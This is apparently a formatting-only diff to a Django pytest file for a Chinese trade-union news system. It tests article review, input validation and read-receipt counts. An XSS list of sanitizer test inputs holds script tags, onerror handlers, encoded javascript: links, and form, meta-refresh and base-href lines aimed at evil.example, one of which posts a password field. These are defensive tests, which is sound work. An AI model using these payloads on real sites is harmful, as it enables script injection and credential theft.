@@ -38,7 +38,9 @@ def test_the_author_may_not_review_and_the_reviewer_is_named(cast):
         services.article_step(actor=cast.users.sibling_admin, article=article, to=Status.PUBLISHED,
                               version=article.version)  # fmt: skip
     with pytest.raises(ValidationError, match="须填写理由"):
-        services.article_step(actor=cast.users.province_admin, article=article, to=Status.DRAFT, version=article.version)
+        services.article_step(
+            actor=cast.users.province_admin, article=article, to=Status.DRAFT, version=article.version
+        )
     returned = services.article_step(actor=cast.users.province_admin, article=article, to=Status.DRAFT,
                                      version=article.version, note="标题请写明范围")  # fmt: skip
     assert returned.status == Status.DRAFT and returned.case.status == Status.DRAFT
@@ -60,8 +62,15 @@ def test_the_author_may_not_review_and_the_reviewer_is_named(cast):
 
 def test_bad_input_is_reported_at_once_and_nothing_is_saved(cast):
     with pytest.raises(ValidationError) as error:
-        draft(cast, title=" ", body="<script>alert(1)</script>", audience=Audience.CHOSEN,
-              targets=[cast.orgs.nanjing], receipt_required=True, publish_at=timezone.now() - dt.timedelta(hours=1))
+        draft(
+            cast,
+            title=" ",
+            body="<script>alert(1)</script>",
+            audience=Audience.CHOSEN,
+            targets=[cast.orgs.nanjing],
+            receipt_required=True,
+            publish_at=timezone.now() - dt.timedelta(hours=1),
+        )
     assert set(error.value.message_dict) == {"title", "body", "targets", "receipt_required", "publish_at"}
     assert error.value.message_dict["targets"] == ["只能选择发布工会的下属工会。"]
     with pytest.raises(ValidationError, match="公开发布的资讯不能限定就业形态"):
@@ -104,12 +113,12 @@ XSS = [
     "<style>body{display:none}</style>",
     '<form action="https://evil.example/"><input name="pw"></form>',
     '<object data="x.swf"></object><embed src="x.swf">',
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     "<<script>script>alert(1)<</script>/script>",
     '<a href="&#106;avascript:alert(1)">编码</a>',
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     '<base href="https://evil.example/">',
-    '<div><p>正常<strong>加粗</strong></p></div><!-- <script>alert(1)</script> -->',
+    "<div><p>正常<strong>加粗</strong></p></div><!-- <script>alert(1)</script> -->",
 ]
 
 
@@ -186,7 +195,9 @@ def test_receipts_counted_per_union_and_drilled_down(tree, django_assert_num_que
     assert [(r["org"].name, r["reached"], r["read"]) for r in rows] == [("杭州市总工会", 5, 1)]
     rows = selectors.receipt_breakdown(article, o.xihu)
     assert [(r["org"].name, r["own"], r["reached"], r["read"]) for r in rows] == [
-        ("西溪街道工会", False, 2, 0), ("杭州示例科技有限公司工会", False, 3, 1)]
+        ("西溪街道工会", False, 2, 0),
+        ("杭州示例科技有限公司工会", False, 3, 1),
+    ]
     assert [r.person.name for r in selectors.readers_at(article, o.company)] == ["张伟"]
     with pytest.raises(Http404):
         selectors.receipt_node(tree.users.province_admin, article, o.nanjing.pk)
